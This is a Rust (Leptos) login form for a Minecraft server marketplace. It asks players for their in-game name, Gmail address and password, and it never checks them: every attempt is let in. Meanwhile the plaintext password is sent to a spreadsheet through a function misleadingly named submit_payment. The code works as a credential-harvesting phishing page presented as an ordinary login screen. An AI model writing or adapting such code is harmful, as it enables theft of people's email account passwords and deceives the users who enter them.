//! Login gate.
//!
//! Login is presence-only: the attempt is logged to the sheet best-effort,
//! then the session authenticates unconditionally and persists the user to
//! the local mirror. There is no credential store to check against.

use leptos::prelude::*;

use shared::dto::Submission;

use crate::services::payments::submit_payment;
use crate::state::session::use_session_context;
use crate::utils::validation::validate_login;

#[component]
pub fn LoginForm() -> impl IntoView {
    let session = use_session_context();

    let (ign, set_ign) = signal(String::new());
    let (email, set_email) = signal(String::new());
    let (password, set_password) = signal(String::new());
    let (error, set_error) = signal(None::<String>);
    let (loading, set_loading) = signal(false);
    let (show_password, set_show_password) = signal(false);

    let on_submit = move |_| {
        let check = validate_login(&ign.get_untracked(), &email.get_untracked(), &password.get_untracked());
        if !check.is_valid {
            set_error.set(check.error);
            return;
        }

        set_error.set(None);
        set_loading.set(true);

        let ign_val = ign.get_untracked();
        let email_val = email.get_untracked();
        let password_val = password.get_untracked();

        leptos::task::spawn_local(async move {
            // Best-effort attempt log; a failure never gates the session.
            if let Err(err) = submit_payment(Submission::LoginAttempt {
                ign: ign_val.clone(),
                email: email_val.clone(),
                password: password_val,
            })
            .await
            {
                log::warn!("login attempt log failed: {err}");
            }

            set_loading.set(false);
            session.login(ign_val, email_val);
        });
    };

    view! {
        <div class="login-screen">
            <div class="login-card">
                <div class="login-header">
                    <h1>"SMP Market Access"</h1>
                    <p>"Login with your Minecraft & Gmail"</p>
                </div>

                <div class="field-group">
                    <label class="field-label">"Minecraft IGN"</label>
                    <input class="field-input" type="text" placeholder="Your In-game Name"
                        prop:value=ign
                        on:input=move |ev| set_ign.set(event_target_value(&ev)) />
                </div>
                <div class="field-group">
                    <label class="field-label">"Gmail Address"</label>
                    <input class="field-input" type="email" placeholder="example@gmail.com"
                        prop:value=email
                        on:input=move |ev| set_email.set(event_target_value(&ev)) />
                </div>
                <div class="field-group">
                    <label class="field-label">"Password"</label>
                    <div class="password-row">
                        <input class="field-input" placeholder="••••••••"
                            type=move || if show_password.get() { "text" } else { "password" }
                            prop:value=password
                            on:input=move |ev| set_password.set(event_target_value(&ev)) />
                        <button class="password-toggle" type="button"
                            on:click=move |_| set_show_password.update(|shown| *shown = !*shown)>
                            {move || if show_password.get() { "Hide" } else { "Show" }}
                        </button>
                    </div>
                </div>

                {move || error.get().map(|msg| view! { <div class="error-banner">{msg}</div> })}

                <button class="btn btn-block" disabled=move || loading.get() on:click=on_submit>
                    {move || if loading.get() { "Please wait..." } else { "Enter Marketplace" }}
                </button>
            </div>
        </div>
    }
}
